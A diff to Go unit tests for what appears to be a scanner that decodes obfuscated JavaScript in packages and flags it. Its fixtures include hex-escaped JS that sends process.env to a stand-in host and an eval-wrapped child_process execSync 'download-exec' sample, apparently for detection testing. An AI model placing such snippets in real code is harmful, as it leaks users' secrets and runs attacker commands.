@@ -71,6 +71,8 @@ func TestDecodedText(t *testing.T) {
 
 		{"js module and method by index into an escaped array", map[string]string{"lib/x.js": "var _0x=['" + hexEsc("https") + "','" + hexEsc("get") + "'];\nrequire(_0x[0])[_0x[0x1]]('https://example.invalid/?'+JSON.stringify(process.env));\n"},
 			map[string]string{"lib/x.js": "require('https')['get']('https://example.invalid/?'+JSON.stringify(process.env));\n"}, "env-dump", record.Medium, 0, -1},
+		{"js long escaped source, cut at the literal cap", map[string]string{"lib/x.js": "eval('" + hexEsc("require('child_process').execSync('"+pipe+"');"+strings.Repeat("var q = 1;", 3000)) + "');\n"},
+			map[string]string{"lib/x.js": "eval(\"require('child_process').execSync('" + pipe + "');" + strings.Repeat("var q = 1;", 3000) + "\");\n"}, "download-exec", record.Medium, 0, 1},
 		{"js escaped strings spelling child_process", map[string]string{"lib/x.js": "var t=[" + escList("child_process", "exec", "whoami", "toString", "stdout", "length", "split", "join") + "];\nrequire(t[0])[t[1]](t[2]);\n"},
 			nil, "escaped-strings", record.Medium, 0, -1},
 
@@ -173,8 +175,11 @@ func TestDecodeLiterals(t *testing.T) {
 			t.Errorf("decodeEscapes(%q) = %q, %v; want %q, %v", c.in, got, ok, c.want, c.ok)
 		}
 	}
-	if _, ok := decodeEscapes([]byte(hexEsc(strings.Repeat("a", 100))), 50); ok {
-		t.Error("a literal over the limit was decoded")
+	if got, ok := decodeEscapes([]byte(hexEsc(strings.Repeat("a", 100))), 50); !ok || len(got) != 50 {
+		t.Errorf("a literal over the limit: got %d bytes (%v), want it cut at 50", len(got), ok)
+	}
+	if got, _, ok := parseCharCodes([]byte("["+codes(strings.Repeat("b", 100))+"]"), 0, 50); !ok || len(got) != 50 {
+		t.Errorf("a list over the limit: got %d bytes (%v), want it cut at 50", len(got), ok)
 	}
 	for _, c := range []struct {
 		in, want string
